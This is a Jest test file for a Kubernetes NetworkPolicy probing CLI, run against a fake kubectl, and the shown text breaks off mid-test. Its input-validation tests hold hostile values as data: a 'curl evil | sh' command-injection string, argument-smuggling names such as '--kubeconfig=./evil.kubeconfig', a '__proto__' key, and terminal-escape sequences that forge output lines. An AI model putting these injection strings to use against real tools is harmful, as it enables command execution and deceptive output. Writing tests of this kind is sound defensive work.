import { spawn } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { FakeClock, ManualClock } from './support/fake-clock';
import { FakeKubectl } from './support/fake-kubectl';
import { enforced, notEnforced, probePods as podsOf, REPRESENTATIVE_NAMESPACES, RUN_ID, SHOP_PODS, shopResponses as responses } from './support/shop-cluster';
import { synthesizeExamples } from '../../examples/summary';
import { loadManifests } from '../../src/io/manifest-loader';
import { ProbeKind, ProbeObservation, ProbePlan } from '../../src/probe';
import { kubectlExecutor } from '../../src/probe/kubectl-executor';
import { PROBE_ID_LABEL, PROBE_RUN_LABEL } from '../../src/probe/probe-names';
import { probeExitCode } from '../../src/probe/probe-report';
import { runProbes } from '../../src/probe/probe-runner';
import { netpol } from '../cli/run-netpol';

// Every test here spawns kubectl (the fake) many times, on a shared machine.
jest.setTimeout(60_000);

const ROOT = path.join(__dirname, '..', '..');
let dir: string;
let shop: string;
let plan: ProbePlan;
let fake: FakeKubectl;
const savedPath = process.env.PATH;
const savedKubeconfig = process.env.KUBECONFIG;

beforeAll(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'netpol-probe-run-'));
  synthesizeExamples(dir);
  shop = path.join(dir, 'shop.k8s.yaml');
  plan = ProbePlan.fromObjects(loadManifests([shop]).objects.map(o => o.object));
  fake = FakeKubectl.create(path.join(dir, 'bin'), []);
  // The fake comes first on the PATH; no kubeconfig, in case anything reached a real kubectl.
  process.env.PATH = `${fake.dir}${path.delimiter}${savedPath}`;
  process.env.KUBECONFIG = path.join(dir, 'no-such-kubeconfig');
});

beforeAll(async () => {
  // Never reach a real kubectl: the executor must resolve to the fake before any test runs.
  fake.respond([{ when: 'fake-check', stdout: 'fake' }]);
  const r = await kubectlExecutor()(['fake-check']);
  if (r.stdout !== 'fake' || !fake.calls().some(c => c.args[0] === 'fake-check')) throw new Error(`kubectl does not resolve to the fake on the PATH: ${r.stderr}`);
});

afterAll(() => {
  process.env.PATH = savedPath;
  if (savedKubeconfig === undefined) delete process.env.KUBECONFIG;
  else process.env.KUBECONFIG = savedKubeconfig;
  fs.rmSync(dir, { recursive: true, force: true });
});

beforeEach(() => fake.reset());

/** Every Job applied was deleted (by namespace), and the probe Namespace after them, after the apply. */
function expectEverythingDeleted(): void {
  const calls = fake.calls();
  const applies = calls.map((c, i) => ({ ...c, i })).filter(c => c.args.includes('apply'));
  const applied = applies.flatMap(a => JSON.parse(a.stdin).items);
  const deletes = calls.map((c, i) => ({ ...c, i })).filter(c => c.args.includes('delete'));
  expect(deletes.every(d => d.i > applies[applies.length - 1].i)).toBe(true);
  const args = (d: { args: string[] }) => d.args.slice(d.args.indexOf('delete'));
  const jobDeletes = deletes.filter(d => args(d)[1] === 'job');
  const deleted = jobDeletes.flatMap(d => {
    const a = args(d);
    const ns = a.find(x => x.startsWith('--namespace='))!.slice('--namespace='.length);
    return a.slice(a.indexOf('--') + 1).map(n => `${ns}/${n}`);
  });
  const expected = applied.filter((o: any) => o.kind === 'Job').map((o: any) => `${o.metadata.namespace}/${o.metadata.name}`);
  expect(deleted.sort()).toEqual(expected.sort());
  expect(jobDeletes.every(d => args(d).includes('--ignore-not-found'))).toBe(true);
  // the namespaces the run created (the probe namespace, the representatives'), after every Job
  const namespaceDeletes = deletes.filter(d => args(d)[1] === 'namespace');
  expect(namespaceDeletes.map(d => args(d).pop()).sort()).toEqual(applied.filter((o: any) => o.kind === 'Namespace').map((o: any) => o.metadata.name).sort());
  for (const d of namespaceDeletes) {
    expect(args(d).slice(0, -1)).toEqual(['delete', 'namespace', '--ignore-not-found', '--wait=false', '--']);
    expect(d.i).toBeGreaterThan(Math.max(...jobDeletes.map(j => j.i)));
  }
}

async function probeRun(extra: string[] = []) {
  return netpol(['probe', 'run', shop, '--run-id', RUN_ID, '--poll-interval', '10', '--deadline', '30', ...extra]);
}

describe('netpol probe run against a fake kubectl', () => {
  test('applies one Job per probe and the probe Namespace, connecting to the pod IPs it looked up, and exits 0 when the cluster agrees', async () => {
    fake.respond(responses(podsOf(plan, enforced)));
    const junit = path.join(dir, 'agree.xml');
    const out = await probeRun(['--junit', junit, '--context', 'kind-test']);
    expect(out.stderr).not.toMatch(/failed/);
    expect(out.code).toBe(0);

    const calls = fake.calls();
    expect(calls.every(c => c.args[0] === '--context=kind-test')).toBe(true);
    const apply = calls.filter(c => c.args.includes('apply'));
    expect(apply).toHaveLength(1);
    const applied = JSON.parse(apply[0].stdin);
    expect(applied.kind).toBe('List');
    expect(applied.items.map((o: any) => `${o.kind}/${o.metadata.name}`)).toEqual([
      'Namespace/netpol-probe', ...REPRESENTATIVE_NAMESPACES.map(n => `Namespace/${n}`), ...plan.probes.map(p => `Job/netpol-probe-${RUN_ID}-${p.id}`),
    ]);
    const jobOf = (id: string) => applied.items.find((o: any) => o.metadata.labels[PROBE_ID_LABEL] === id);
    // the representative sources run last, in the namespaces they name (which this cluster lacks: created, labelled)
    const representatives = plan.probes.filter(p => p.kind === ProbeKind.REPRESENTATIVE_SOURCE);
    expect(representatives.map(p => `${p.id} ${p.description}`)).toEqual([
      'p16 ingress-nginx/{app.kubernetes.io/component=controller,app.kubernetes.io/name=ingress-nginx} -> shop/frontend TCP/8080',
      'p17 monitoring/{app.kubernetes.io/name=prometheus} -> shop/backend TCP/9090',
      'p18 monitoring/{app.kubernetes.io/name=prometheus} -> shop/frontend TCP/9090',
      'p19 monitoring/{app.kubernetes.io/name=prometheus} -> shop/postgres TCP/9187',
    ]);
    const nginx = applied.items.find((o: any) => o.kind === 'Namespace' && o.metadata.name === 'ingress-nginx');
    expect(nginx.metadata.labels).toEqual({ 'kubernetes.io/metadata.name': 'ingress-nginx', 'netpol.cdk8s.io/probe': 'true', [PROBE_RUN_LABEL]: RUN_ID });
    expect(jobOf(representatives[0].id).metadata.namespace).toBe('ingress-nginx');
    expect(jobOf(representatives[0].id).spec.template.metadata.labels).toMatchObject(representatives[0].sourceLabels!);
    const commandOf = (id: string) => jobOf(id).spec.template.spec.containers[0].command;
    const toBackend = plan.probes.find(p => p.from === 'shop/frontend' && p.to === 'shop/backend' && p.port === 9000)!;
    expect(commandOf(toBackend.id)[2]).toBe('10.1.0.12:9000'); // the running backend pod, not the pending one
    const toDb = plan.probes.find(p => p.to === 'shop/postgres')!;
    expect(commandOf(toDb.id)[2]).toBe('10.1.0.13:5432'); // headless Service: the pod IP

    // Namespace-scoped reads only: one pod query per namespace the probes run in.
    expect(calls.some(c => c.args.includes('--all-namespaces'))).toBe(false);
    const polls = calls.filter(c => c.args.some(a => a.startsWith('--selector='))).map(c => c.args.find(a => a.startsWith('--namespace=')));
    expect([...new Set(polls)].sort()).toEqual(['--namespace=ingress-nginx', '--namespace=monitoring', '--namespace=netpol-probe', '--namespace=shop']);
    const order = calls.map(c => c.args.slice(1).join(' '));
    const applyAt = order.findIndex(a => a.startsWith('apply'));
    expect(order.findIndex(a => a.startsWith('delete'))).toBeGreaterThan(applyAt);
    expectEverythingDeleted();

    expect(out.stdout).toMatch(/^PROBE\s+CONNECTION\s+EXPECTED\s+OBSERVED\s+VERDICT$/m);
    expect(out.stdout).toContain(`${plan.probes.length} probes: ${plan.probes.length} agree, 0 disagree, 0 could not run.`);
    const xml = fs.readFileSync(junit, 'utf8');
    expect(xml).toContain(`<testsuites name="netpol probe" tests="${plan.probes.length}" failures="0" errors="0">`);
    expect(xml.match(/<testcase /g)).toHaveLength(plan.probes.length);
  });

  test('exits 5 and says the plugin probably does not enforce NetworkPolicy when every expected-denied probe connects', async () => {
    fake.respond(responses(podsOf(plan, notEnforced)));
    const junit = path.join(dir, 'flannel.xml');
    const out = await probeRun(['--junit', junit]);
    expect(out.code).toBe(5);
    const denied = plan.probes.filter(p => !p.expectAllowed).length;
    expect(out.stdout).toContain(`Every probe that the policies deny connected (${denied} of ${denied}): the network plugin probably does not enforce NetworkPolicy at all.`);
    expect(out.stdout).toMatch(/flannel alone/);
    expect(out.stdout).toMatch(/kubectl get daemonsets --namespace kube-system/);
    const xml = fs.readFileSync(junit, 'utf8');
    expect(xml).toContain(`failures="${denied}" errors="0"`);
    expect(xml.match(/<failure message="observed reached">/g)).toHaveLength(denied);
  });

  test('exits 5 and points at the semantics plugins differ on when only some probes disagree', async () => {
    const metadata = plan.probes.find(p => p.to === '169.254.169.254')!;
    fake.respond(responses(podsOf(plan, p => (p.id === metadata.id ? { terminated: { exitCode: 1, message: 'REFUSED\n' } } : enforced(p)))));
    const out = await probeRun();
    expect(out.code).toBe(5);
    expect(out.stdout).toContain('1 probes disagree with the offline analysis.');
    expect(out.stdout).toMatch(/Cloud metadata reached: traffic from a pod to its own node is always allowed/);
    expect(out.stdout).toContain(`${metadata.id} ${metadata.description}: expected denied, observed reached (refused)`);
    expect(out.stdout).not.toMatch(/does not enforce NetworkPolicy at all/);
  });

  test('a probe that disagrees runs again in a fresh pod, and only the last attempt counts', async () => {
    const flaky = plan.probes.find(p => !p.expectAllowed)!;
    const first = podsOf(plan, p => (p.id === flaky.id ? { terminated: { exitCode: 0 } } : enforced(p)));
    fake.respond(responses(podsOf(plan, enforced), [{ when: `${RUN_ID},netpol.cdk8s.io/probe-attempt=1`, stdout: first }]));
    const out = await probeRun();
    expect(out.code).toBe(0);
    const applies = fake.calls().filter(c => c.args.includes('apply')).map(c => JSON.parse(c.stdin).items);
    expect(applies).toHaveLength(2);
    expect(applies[1].map((o: any) => o.metadata.name)).toEqual([`netpol-probe-${RUN_ID}-${flaky.id}-a2`]);
    expect(applies[1][0].spec.template.metadata.labels['netpol.cdk8s.io/probe-attempt']).toBe('2');
    expect(out.stderr).toContain('1 probes disagree; running them again (attempt 2 of 2)');
    expectEverythingDeleted();
    fake.reset();
    const once = await probeRun(['--attempts', '1']);
    expect(once.code).toBe(5);
    expect(fake.calls().filter(c => c.args.includes('apply'))).toHaveLength(1);
  });

  test('exits 4 when no probe disagrees but some could not run, and says why', async () => {
    const first = plan.probes[0];
    fake.respond(responses(podsOf(plan, p => (p.id === first.id ? { waiting: { reason: 'ImagePullBackOff', message: 'Back-off pulling image' } } : enforced(p)))));
    const junit = path.join(dir, 'pull.xml');
    const out = await probeRun(['--junit', junit]);
    expect(out.code).toBe(4);
    expect(out.stdout).toMatch(new RegExp(`^${first.id} .*could not run\\s+INCONCLUSIVE$`, 'm'));
    expect(out.stdout).toContain('observed: the probe container could not start: ImagePullBackOff (Back-off pulling image)');
    expect(fs.readFileSync(junit, 'utf8')).toContain('failures="0" errors="1"');
  });

  test('a probe whose destination has no running pod could not run; the others still run', async () => {
    const pods = JSON.parse(SHOP_PODS);
    pods.items = pods.items.filter((p: any) => !p.metadata.name.startsWith('postgres'));
    fake.respond([{ when: 'get pods --namespace=shop -o json', stdout: JSON.stringify(pods) }, ...responses(podsOf(plan, enforced))]);
    const out = await probeRun();
    expect(out.code).toBe(4);
    expect(out.stdout).toContain('observed: no running pod of shop/postgres in the cluster to connect to');
    const applied = JSON.parse(fake.calls().find(c => c.args.includes('apply'))!.stdin);
    expect(applied.items.some((o: any) => o.metadata.annotations?.['netpol.cdk8s.io/probe-description']?.includes('-> shop/postgres'))).toBe(false);
  });

  test('never applies nor deletes a probe namespace that exists and is not its own; its probes could not run', async () => {
    const existing = JSON.stringify({ metadata: { name: 'netpol-probe', labels: { 'kubernetes.io/metadata.name': 'netpol-probe', 'team': 'x' } } });
    fake.respond(responses(podsOf(plan, enforced), [{ when: 'get namespace -o json -- netpol-probe', stdout: existing }]));
    const out = await probeRun();
    expect(out.code).toBe(4);
    const other = plan.probes.filter(p => p.sourceNamespace === 'netpol-probe');
    expect(other.length).toBeGreaterThan(0);
    for (const p of other) expect(out.stdout).toMatch(new RegExp(`^${p.id} .*could not run\\s+INCONCLUSIVE$`, 'm'));
    expect(out.stdout).toContain('observed: namespace netpol-probe already exists and was not created by netpol probe: choose another --probe-namespace');
    const applied = JSON.parse(fake.calls().find(c => c.args.includes('apply'))!.stdin).items;
    expect(applied.some((o: any) => (o.kind === 'Namespace' && o.metadata.name === 'netpol-probe') || o.metadata.namespace === 'netpol-probe')).toBe(false);
    expect(fake.calls().some(c => c.args.includes('delete') && c.args.includes('namespace') && c.args.includes('netpol-probe'))).toBe(false);
  });

  test('a representative\'s namespace that the cluster has is used as it is: its probes run there, the namespace is neither applied nor deleted', async () => {
    const existing = JSON.stringify({ metadata: { name: 'ingress-nginx', labels: { 'kubernetes.io/metadata.name': 'ingress-nginx' } } });
    fake.respond(responses(podsOf(plan, enforced), [{ when: 'get namespace -o json -- ingress-nginx', stdout: existing }]));
    const out = await probeRun();
    expect(out.code).toBe(0);
    expect(out.stderr).toContain('namespace ingress-nginx exists: the probes from ingress-nginx/{app.kubernetes.io/component=controller,app.kubernetes.io/name=ingress-nginx} run in it (it is neither created nor deleted)');
    const applied = JSON.parse(fake.calls().find(c => c.args.includes('apply'))!.stdin).items;
    expect(applied.filter((o: any) => o.kind === 'Namespace').map((o: any) => o.metadata.name)).toEqual(['netpol-probe', 'monitoring']);
    const nginxProbe = plan.probes.find(p => p.sourceNamespace === 'ingress-nginx')!;
    expect(applied.find((o: any) => o.metadata.labels?.[PROBE_ID_LABEL] === nginxProbe.id).metadata.namespace).toBe('ingress-nginx');
    const deletes = fake.calls().filter(c => c.args.includes('delete')).map(c => c.args.slice(c.args.indexOf('delete')).join(' '));
    expect(deletes.some(d => d.startsWith('delete namespace') && d.endsWith('-- ingress-nginx'))).toBe(false);
    expect(deletes.some(d => d.startsWith('delete job') && d.includes('--namespace=ingress-nginx'))).toBe(true);
    expectEverythingDeleted();
  });

  test('--no-representatives probes only the input\'s own workloads', async () => {
    fake.respond(responses(podsOf(plan, enforced)));
    const out = await probeRun(['--no-representatives']);
    expect(out.code).toBe(0);
    const own = plan.probes.filter(p => p.kind !== ProbeKind.REPRESENTATIVE_SOURCE);
    expect(out.stdout).toContain(`${own.length} probes: ${own.length} agree, 0 disagree, 0 could not run.`);
    const applied = JSON.parse(fake.calls().find(c => c.args.includes('apply'))!.stdin).items;
    expect(applied.filter((o: any) => o.kind === 'Namespace').map((o: any) => o.metadata.name)).toEqual(['netpol-probe']);
    expect(fake.calls().some(c => c.args.some(a => a.includes('ingress-nginx') || a.includes('monitoring')))).toBe(false);
  });

  test('a leftover probe namespace of an earlier run is reused and deleted', async () => {
    const leftover = JSON.stringify({ metadata: { name: 'netpol-probe', labels: { 'netpol.cdk8s.io/probe': 'true' } } });
    fake.respond(responses(podsOf(plan, enforced), [{ when: 'get namespace -o json -- netpol-probe', stdout: leftover }]));
    const out = await probeRun();
    expect(out.code).toBe(0);
    expectEverythingDeleted();
  });

  test('exits 2 when kubectl apply fails, and still deletes what it tried to apply', async () => {
    fake.respond(responses(podsOf(plan, enforced), [{ when: 'apply', code: 1, stderr: 'error: forbidden: User cannot create jobs' }]));
    const out = await probeRun();
    expect(out.code).toBe(2);
    expect(out.stderr).toContain('kubectl apply -f - -o name failed (exit code 1): error: forbidden: User cannot create jobs');
    expectEverythingDeleted();
  });

  test('exits 2 with a clear message when kubectl cannot be run', async () => {
    const out = await probeRun(['--kubectl', path.join(dir, 'no-such-kubectl')]);
    expect(out.code).toBe(2);
    expect(out.stderr).toMatch(/could not run .*no-such-kubectl/);
  });

  test('probes still pending at the deadline could not run, with the pod\'s state; the deadline is read from the injected clock', async () => {
    fake.respond(responses(podsOf(plan, () => ({ waiting: { reason: 'ContainerCreating' } }))));
    const clock = new FakeClock();
    const run = await runProbes(plan, { executor: kubectlExecutor(), runId: RUN_ID, pollIntervalMs: 2000, deadlineSeconds: 10, clock });
    expect(run.results.map(r => r.detail)).toEqual(plan.probes.map(() => 'did not finish before the deadline (pod ContainerCreating)'));
    // 10 s of polls every 2 s: five sleeps, none past the deadline
    expect(clock.sleeps).toEqual(Array(5).fill(2000));
    expectEverythingDeleted();
  });
});

/** Every argument of every kubectl call: a fixed word or flag, a `--flag=value` of a checked value, or a name after `--`. */
function expectSafeArgv(calls: { args: string[] }[]): void {
  const FIXED = new Set(['get', 'pods', 'service', 'namespace', 'jobs', 'events', 'apply', 'delete', 'job', '-f', '-', '-o', 'json', 'name',
    '--ignore-not-found', '--wait=false', '--cascade=background', '--field-selector=involvedObject.kind=Job,reason=FailedCreate']);
  const NAME = /^[a-z0-9]([-a-z0-9.]*[a-z0-9])?$/;
  for (const { args } of calls) {
    const dash = args.indexOf('--');
    const flags = dash < 0 ? args : args.slice(0, dash);
    for (const a of flags) expect(FIXED.has(a) || /^--(context|namespace|selector)=[^\s]+$/.test(a) ? 'ok' : a).toBe('ok');
    for (const a of dash < 0 ? [] : args.slice(dash + 1)) expect(a).toMatch(NAME);
  }
}

describe('--address in `probe run`', () => {
  const backendTargets = () => JSON.parse(fake.calls().find(c => c.args.includes('apply'))!.stdin).items
    .filter((o: any) => o.kind === 'Job' && plan.probes.find(p => p.id === o.metadata.labels[PROBE_ID_LABEL])!.to === 'shop/backend')
    .map((o: any) => o.spec.template.spec.containers[0].command[2]);

  test('is honoured when the cluster has no running pod of the destination (it used to say "no running pod")', async () => {
    const pods = JSON.parse(SHOP_PODS);
    pods.items = pods.items.filter((p: any) => !p.metadata.name.startsWith('backend'));
    fake.respond([{ when: 'get pods --namespace=shop -o json', stdout: JSON.stringify(pods) }, ...responses(podsOf(plan, enforced))]);
    const out = await probeRun(['--address', 'shop/backend=192.0.2.10']);
    expect(out.code).toBe(0);
    expect(out.stdout).not.toMatch(/no running pod of shop\/backend/);
    expect(new Set(backendTargets())).toEqual(new Set(['192.0.2.10:9000', '192.0.2.10:9090']));
  });

  test('wins over the pod IP the cluster has, and the disagreement is reported', async () => {
    fake.respond(responses(podsOf(plan, enforced)));
    const out = await probeRun(['--address', 'shop/backend=192.0.2.10']);
    expect(out.code).toBe(0);
    expect(new Set(backendTargets())).toEqual(new Set(['192.0.2.10:9000', '192.0.2.10:9090']));
    expect(out.stderr).toContain('netpol probe run: the given address 192.0.2.10 of shop/backend is not the IP of a running pod of it (10.1.0.12 is): the probes connect to the given address');
  });
});

describe('hostile input never reaches kubectl as an option', () => {
  test('a whole run passes kubectl only fixed words, `--flag=value` and names after `--`', async () => {
    fake.respond(responses(podsOf(plan, enforced)));
    const out = await probeRun(['--context', 'kind-test']);
    expect(out.code).toBe(0);
    expect(fake.calls().length).toBeGreaterThan(5);
    expectSafeArgv(fake.calls());
  });

  const deployment = (namespace: string) => ({
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name: 'web', namespace },
    spec: { selector: { matchLabels: { app: 'web' } }, template: { metadata: { labels: { app: 'web' } }, spec: { containers: [{ name: 'c', image: 'i', ports: [{ containerPort: 80 }] }] } } },
  });
  const client = { ...deployment('shop'), metadata: { name: 'client', namespace: 'shop' } };
  test.each([
    ['a Service named --kubeconfig=./evil.kubeconfig', [deployment('shop'), client, { apiVersion: 'v1', kind: 'Service', metadata: { name: '--kubeconfig=./evil.kubeconfig', namespace: 'shop' }, spec: { selector: { app: 'web' }, ports: [{ port: 80 }] } }],
      /--kubeconfig=\.\/evil\.kubeconfig/],
    ['a Service in namespace -n', [deployment('shop'), client, { apiVersion: 'v1', kind: 'Service', metadata: { name: 'web', namespace: '-n' }, spec: { selector: { app: 'web' }, ports: [{ port: 80 }] } }], /"-n"/],
    ['a workload in namespace --kubeconfig=x', [deployment('--kubeconfig=x'), { ...client, metadata: { name: 'client', namespace: '--kubeconfig=x' } }], /--kubeconfig=x/],
  ])('%s: exit 2 with an input error, and kubectl is never called', async (_, objects, message) => {
    const file = path.join(dir, `hostile-${Math.random().toString(36).slice(2)}.json`);
    fs.writeFileSync(file, JSON.stringify({ apiVersion: 'v1', kind: 'List', items: objects }));
    fake.respond(responses(podsOf(plan, enforced)));
    const out = await netpol(['probe', 'run', file, '--run-id', RUN_ID]);
    expect(out.code).toBe(2);
    expect(out.stderr).toMatch(/^netpol probe (run|plan)?:? /);
    expect(out.stderr).toMatch(message);
    expect(out.stderr).not.toMatch(/\n\s+at /);
    expect(fake.calls()).toEqual([]);
  });

  test.each([
    [['--context=--kubeconfig=./evil.kubeconfig'], /--context: Invalid value: "--kubeconfig=.\/evil.kubeconfig": must not start with "-"/],
    [['--context', 'kind\u001b[2J'], /--context: Invalid value: "kind\\u001b\[2J": must not contain control characters/],
    [['--image', '--privileged'], /image: Invalid value: "--privileged": must be a container image reference/],
    [['--image', 'busybox; curl evil | sh'], /image: Invalid value: "busybox; curl evil \| sh"/],
    [['--address', '--kubeconfig=./x/y=10.0.0.1'], /addresses: Invalid key: "--kubeconfig=.\/x\/y"/],
    [['--address', '__proto__=10.0.0.1'], /addresses: Invalid key: "__proto__": must be <namespace>\/<name>/],
    [['--address', 'shop/backend=10.0.0.1', '--address', 'shop/backend=10.0.0.2'], /--address: "shop\/backend" is given twice/],
    [['--kubectl', ''], /--kubectl: Invalid value: ""/],
    [['--junit', 'a\u0000b'], /--junit: Invalid value: "a\\u0000b": must be a file path without control characters/],
    [['--deadline', '5'], /deadline: Invalid value: 5: must be more than the connection timeout \(5 s\)/],
  ])('%j: exit 2 with an input error before any kubectl call', async (args, message) => {
    fake.respond(responses(podsOf(plan, enforced)));
    const out = await netpol(['probe', 'run', shop, '--run-id', RUN_ID, ...args]);
    expect(out.code).toBe(2);
    expect(out.stderr).toMatch(message);
    expect(out.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f]/);
    expect(fake.calls()).toEqual([]);
  });
});

describe('messages from the cluster are safe to print and to put in JUnit XML', () => {
  const FORGED = '15 probes: 15 agree, 0 disagree, 0 could not run.';
  test.each([
    ['a termination message', { terminated: { exitCode: 1, message: `OTHER: \u001b[2J\u001b]0;pwned\u0007\r${FORGED}\n${FORGED}` } }],
    ['a waiting message', { waiting: { reason: 'ImagePullBackOff', message: `back-off\n${FORGED}\u001b[31m\u2028\u202e` } }],
    ['a pod failure', { terminated: undefined, waiting: undefined }],
  ] as [string, any][])('%s with terminal escapes and a forged summary line', async (_, state) => {
    const first = plan.probes[0];
    const pods = JSON.parse(podsOf(plan, p => (p.id === first.id ? state : enforced(p))));
    if (state.terminated === undefined && state.waiting === undefined) {
      const pod = pods.items.find((x: any) => x.metadata.labels[PROBE_ID_LABEL] === first.id);
      pod.status = { phase: 'Failed', reason: `Evicted\u001b[2J\n${FORGED}`, message: `\u009b31m\n${FORGED}` };
    }
    fake.respond(responses(JSON.stringify(pods), [{ when: 'delete job --namespace=shop', stderr: `error: \u001b]0;pwned\u0007\n${FORGED}\n`, code: 1 }]));
    const junit = path.join(dir, 'hostile.xml');
    const out = await probeRun(['--junit', junit]);
    expect(out.code).toBe(4);
    for (const text of [out.stdout, out.stderr]) {
      expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/);
      expect(text.split('\n').filter(l => /^\d+ probes: /.test(l))).toEqual(text === out.stdout ? [`${plan.probes.length} probes: ${plan.probes.length - 1} agree, 0 disagree, 1 could not run.`] : []);
    }
    expect(out.stdout).toMatch(/\\u001b|\\u009b/);
    expect(out.stderr).toMatch(/delete what it left with: kubectl delete job --namespace=shop --selector=netpol.cdk8s.io\/probe-run=t1/);
    const xml = fs.readFileSync(junit, 'utf8');
    expect(xml).not.toMatch(/[^\t\n\r\u0020-\u007e\u00a0-\ud7ff\ue000-\ufffd]/u);
    expect(xml.match(/<testcase /g)).toHaveLength(plan.probes.length);
  });

  test('U+FFFF, U+FFFE, a NUL and a lone surrogate from the cluster leave the JUnit XML valid', async () => {
    const first = plan.probes[0];
    fake.respond(responses(podsOf(plan, p => (p.id === first.id ? { waiting: { reason: 'ErrImagePull', message: 'a\uffffb\ufffec\u0000d\ud800e\u0085f<g>&' } } : enforced(p)))));
    const junit = path.join(dir, 'ffff.xml');
    const out = await probeRun(['--junit', junit]);
    expect(out.code).toBe(4);
    const xml = fs.readFileSync(junit, 'utf8');
    expect(xml).not.toMatch(/[^\t\n\r\u0020-\u007e\u00a0-\ud7ff\ue000-\ufffd]/u);
    expect(xml).toContain('a\\uffffb\\ufffec\\u0000d\\ud800e\\u0085f&lt;g&gt;&amp;');
  });
});

describe('a kubectl that hangs or floods', () => {
  test('a poll that never returns is killed at its deadline; the run ends and deletes what it applied', async () => {
    fake.respond(responses(podsOf(plan, enforced), [{ when: 'get pods --namespace=shop --selector=', hang: true }]));
    const killer = new ManualClock();
    let finished = false;
    const executor = kubectlExecutor({ clock: killer });
    const promise = runProbes(plan, { executor, runId: RUN_ID, pollIntervalMs: 2000, deadlineSeconds: 10, clock: new FakeClock() })
      .finally(() => { finished = true; });
    // each hung call waits on the killer's clock: once the fake has recorded it (calls are
    // sequential, so it is the only call in flight), its deadline comes
    let killed = 0;
    while (!finished) {
      await new Promise(r => setTimeout(r, 20));
      const hung = fake.calls().filter(c => c.args.join(' ').includes('get pods --namespace=shop --selector=')).length;
      if (hung > killed) {
        expect(killer.pending()).toHaveLength(1);
        killer.fire();
        killed = hung;
      }
    }
    const run = await promise;
    // one line per namespace polled, however often it hung (the deadline it was given shrinks as the run's nears)
    expect(run.errors).toEqual([
      expect.stringMatching(/^kubectl get pods --namespace=shop --selector=\S+ -o json: did not finish within 10 s: killed \(6 times\)$/),
    ]);
    const inShop = run.results.filter(r => r.probe.sourceNamespace === 'shop');
    expect(inShop.map(r => r.detail)).toEqual(inShop.map(r => expect.stringMatching(new RegExp(`^Job netpol-probe-t1-${r.probe.id} is not in the cluster any more`))));
    expect(run.results.filter(r => r.probe.sourceNamespace === 'netpol-probe').every(r => r.agrees === true)).toBe(true);
    expectEverythingDeleted();
  });

  test('a pod lookup printing more than the bound is killed and reported; the run goes on and cleans up', async () => {
    fake.respond(responses(podsOf(plan, enforced), [{ when: 'get pods --namespace=shop -o json', stdout: 'x'.repeat(1024), repeat: 200, hang: true }]));
    const executor = kubectlExecutor({ maxOutputBytes: 64 * 1024 });
    const run = await runProbes(plan, { executor, runId: RUN_ID, pollIntervalMs: 10, deadlineSeconds: 10, clock: new FakeClock() });
    expect(run.errors).toEqual(['kubectl get pods --namespace=shop -o json: printed more than 64 KiB on standard output: killed (the output is bounded)']);
    expect(run.results.filter(r => r.probe.to === 'shop/backend').every(r => /the pods of namespace shop could not be read/.test(r.detail))).toBe(true);
    expect(run.results.filter(r => r.probe.to === '169.254.169.254').every(r => r.agrees === true)).toBe(true);
    expectEverythingDeleted();
  });
});

describe('UDP', () => {
  test('an allowed UDP flow that gets no answer is inconclusive (exit 4), not a disagreement: a silent UDP server looks dropped', async () => {
    const objects = [
      { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'client', namespace: 'a' }, spec: { template: { metadata: { labels: { app: 'client' } }, spec: { containers: [{ name: 'c', image: 'i' }] } } } },
      {
        apiVersion: 'apps/v1',
        kind: 'Deployment',
        metadata: { name: 'dns', namespace: 'a' },
        spec: { template: { metadata: { labels: { app: 'dns' } }, spec: { containers: [{ name: 'c', image: 'i', ports: [{ containerPort: 53, protocol: 'UDP' }] }] } } },
      },
    ];
    const udpPlan = ProbePlan.fromObjects(objects);
    expect(udpPlan.probes.map(p => `${p.description} ${p.expectAllowed}`)).toEqual(['a/client -> a/dns UDP/53 true']);
    const executor = async (args: readonly string[], { stdin }: { stdin?: string } = {}) => {
      if (args[0] === 'get' && args.some(a => a.startsWith('--selector='))) {
        return { code: 0, stderr: '', stdout: JSON.stringify({ items: [{ metadata: { namespace: 'a', labels: { [PROBE_ID_LABEL]: 'p01' } }, status: { containerStatuses: [{ name: 'probe', state: { terminated: { exitCode: 1, message: 'TIMEOUT: read udp: i/o timeout\n' } } }] } }] }) };
      }
      if (args[0] === 'get') return { code: 0, stderr: '', stdout: JSON.stringify({ items: [{ metadata: { name: 'dns-1', labels: { app: 'dns' } }, status: { phase: 'Running', podIP: '10.0.0.53' } }] }) };
      if (args[0] === 'apply') return { code: 0, stderr: '', stdout: JSON.parse(stdin!).items.map((o: any) => `job.batch/${o.metadata.name}\n`).join('') };
      return { code: 0, stdout: '', stderr: '' };
    };
    const run = await runProbes(udpPlan, { executor, runId: 'u1', pollIntervalMs: 10 });
    expect(run.results[0].observation).toBe(ProbeObservation.BLOCKED);
    expect(run.results[0].agrees).toBeUndefined();
    expect(run.results[0].detail).toMatch(/inconclusive for an allowed UDP flow unless the destination answers/);
    expect(probeExitCode(run)).toBe(4);
  });
});

describe('interruption', () => {
  test('aborting a run deletes everything it applied', async () => {
    fake.respond(responses(podsOf(plan, () => ({ running: {} }))));
    const controller = new AbortController();
    const promise = runProbes(plan, {
      executor: kubectlExecutor(),
      runId: RUN_ID,
      pollIntervalMs: 20,
      deadlineSeconds: 60,
      signal: controller.signal,
    });
    while (!fake.calls().some(c => c.args[0] === 'get' && c.args.some(a => a.startsWith('--selector=')))) await new Promise(r => setTimeout(r, 20));
    controller.abort();
    const run = await promise;
    expect(run.interrupted).toBe(true);
    expect(run.results.every(r => r.observation === ProbeObservation.COULD_NOT_RUN)).toBe(true);
    expectEverythingDeleted();
  });

  test.each([['SIGINT', 130], ['SIGTERM', 143]] as const)('%s stops `netpol probe run`, which deletes what it applied and exits %d', async (signal, exitCode) => {
    fake.respond(responses(podsOf(plan, () => ({ running: {} }))));
    const child = spawn(process.execPath, ['-r', 'ts-node/register/transpile-only', path.join(ROOT, 'src/cli/main.ts'),
      'probe', 'run', shop, '--run-id', RUN_ID, '--poll-interval', '50', '--deadline', '120'], { cwd: ROOT, env: process.env, stdio: ['ignore', 'pipe', 'pipe'] });
    let stderr = '';
    child.stderr.on('data', d => { stderr += String(d); });
    const exited = new Promise<number | null>(resolve => child.on('exit', code => resolve(code)));
    const deadline = Date.now() + 60_000;
